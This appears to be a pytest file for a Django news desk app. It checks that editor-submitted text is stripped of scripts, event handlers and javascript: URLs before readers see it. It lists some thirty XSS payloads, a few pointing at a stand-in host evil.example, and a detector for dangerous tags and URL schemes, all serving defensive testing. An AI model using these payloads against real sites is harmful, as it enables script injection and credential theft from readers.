"""Whatever an editor sends, no script, event handler or javascript: URL reaches a reader.

Hostile inputs go in through the desk (body, headline, claims, a new source's name,
correction note) and come out on the reader's page, its poll, the permalink and the
desk's own preview and list.
"""

import re
from html.parser import HTMLParser

import pytest
from django.test import Client

from stories.models import Update
from stories.rich_text import render_markdown
from tests.support.desk_helpers import HX, compose_data, desk_url, edit_data
from tests.support.factories import make_story, make_user

HOSTILE_BODIES = [
    "<script>alert('x')</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    '<img src="x" alt="a" onerror="alert(1)">',
    '<img src=x alt="a" onerror=alert(1)//>',
    "<svg onload=alert(1)>",
    "<body onload=alert(1)>",
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href="jav&#x09;ascript:alert(1)">click</a>',
    '<a href="&#106;avascript:alert(1)">click</a>',
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "![alt text](javascript:alert(1))",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<iframe src="https://evil.example"></iframe>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<form action="https://evil.example"><input name="password"></form>',
    '<p style="background:url(javascript:alert(1))">styled</p>',
    "<style>body{display:none}</style>",
    '<math><mtext><table><mglyph><style><img src=x alt="a" onerror=alert(1)></style></mglyph>',
    '<div onclick="alert(1)">click me</div>',
    '<a href="https://example.org" onmouseover="alert(1)">hover</a>',
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    '<base href="https://evil.example/">',
    '<!--<img src=x alt="a" onerror=alert(1)>-->',
    '<img src="x" alt="a" title="&quot; onerror=&quot;alert(1)">',
    "<<script>script>alert(1)<</script>/script>",
    '<details open ontoggle="alert(1)">x</details>',
    '<video><source onerror="alert(1)"></video>',
    '<a href="  javascript:alert(1)">spaces</a>',
    "`<script>alert(1)</script>` in code is text",
]

DANGEROUS_TAGS = {
    "iframe", "object", "embed", "form", "input", "style", "base", "svg", "math",
    "video", "audio", "source", "details", "frame", "frameset",
}  # fmt: skip
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "xlink:href", "srcset"}


class _Elements(HTMLParser):
    """Every element and attribute of a page, as a browser would see them."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.elements = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, attrs))

    handle_startendtag = handle_starttag


def assert_harmless(html: str) -> None:
    parser = _Elements()
    parser.feed(html)
    for tag, attrs in parser.elements:
        attributes = dict(attrs)
        if tag == "script":
            # Only the site's own static scripts and JSON-LD data.
            src = attributes.get("src") or ""
            assert src.startswith("/static/") or attributes.get("type") == "application/ld+json", (
                attrs
            )
            continue
        assert tag not in DANGEROUS_TAGS, (tag, attrs)
        assert not (tag == "meta" and "http-equiv" in attributes), attrs
        for name, value in attrs:
            assert not name.startswith("on"), (tag, name, value)
            assert name != "style", (tag, name, value)
            if name in URL_ATTRIBUTES and value:
                scheme = re.sub(r"[\x00-\x20]", "", value).lower()
                assert not scheme.startswith(("javascript:", "vbscript:", "data:")), (tag, attrs)


@pytest.fixture
def story(db):
    return make_story()


@pytest.fixture
def desk(db):
    """A journalist's browser at the desk."""
    client = Client()
    client.force_login(make_user(role="Journalist"))
    return client


@pytest.mark.parametrize("body", HOSTILE_BODIES)
def test_render_markdown_leaves_nothing_executable(body):
    assert_harmless(render_markdown(body))


@pytest.mark.django_db
def test_hostile_inputs_posted_from_the_desk_are_harmless_everywhere_readers_look(desk, story):
    for body in HOSTILE_BODIES:
        data = compose_data(
            headline='<img src=x onerror="alert(1)">Headline',
            body=body,
            claims=[
                {
                    "source_name": "<script>alert('source')</script> Agency",
                    "text": '<a href="javascript:alert(1)" onclick="x()">claim</a>',
                    "note": "<img src=x onerror=alert(2)>",
                }
            ],
        )
        response = desk.post(desk_url(story, "post"), data, headers=HX)
        assert response.status_code == 200, body
        # The desk's answer holds its own forms; the list holds what readers see.
        html = response.content.decode()
        assert_harmless(html[html.index('<section id="desk-stream"') :])
    assert Update.objects.count() == len(HOSTILE_BODIES)
    for update in Update.objects.all():
        assert_harmless(update.body_html)
    reader = Client()
    assert_harmless(reader.get(story.get_absolute_url()).content.decode())
    assert_harmless(reader.get(f"/stories/{story.slug}/poll/?since=0", headers=HX).content.decode())
    assert_harmless(reader.get(Update.objects.first().get_absolute_url()).content.decode())


@pytest.mark.django_db
def test_edits_and_correction_notes_are_sanitised_too(desk, story):
    desk.post(desk_url(story, "post"), compose_data(body="Fine"), headers=HX)
    update = Update.objects.get()
    data = edit_data(
        update,
        body='[x](javascript:alert(1)) <img src=x alt="a" onerror=alert(1)>',
        correction_note='<script>alert("note")</script>',
    )
    assert desk.post(desk_url(story, "edit", update.pk), data, headers=HX).status_code == 200
    html = Client().get(story.get_absolute_url()).content.decode()
    assert_harmless(html)
    assert "&lt;script&gt;alert(&quot;note&quot;)&lt;/script&gt;" in html


@pytest.mark.django_db
@pytest.mark.parametrize("body", HOSTILE_BODIES)
def test_desk_preview_is_sanitised(desk, story, body):
    response = desk.post(desk_url(story, "preview") + "?form=compose", {"body": body}, headers=HX)
    assert response.status_code == 200
    assert_harmless(response.content.decode())


@pytest.mark.parametrize(
    "raw",
    [body for body in HOSTILE_BODIES if body.startswith("<") and "<!--" not in body][:12],
)
def test_the_check_itself_catches_the_raw_inputs(raw):
    with pytest.raises(AssertionError):
        assert_harmless(raw)


UPLOADED = "/media/updates/2026/11/8831fc7fe2fd4cd28e48901c481f48df-1600x900.jpg"


@pytest.mark.parametrize(
    ("body", "size"),
    [
        (f"![Smoke]({UPLOADED})", 'width="1600" height="900"'),
        ("![Smoke](https://elsewhere.example/photo-10x10.jpg)", None),
        (f'<img src="{UPLOADED}" alt="Smoke" width="300">', 'width="300"'),
    ],
    ids=["uploaded", "elsewhere", "sized-by-hand"],
)
def test_uploaded_images_get_their_size_so_text_does_not_jump_while_they_load(body, size):
    html = render_markdown(body)
    found = re.findall(r'(?:width|height)="\d+"', html)
    assert " ".join(found) == (size or "")
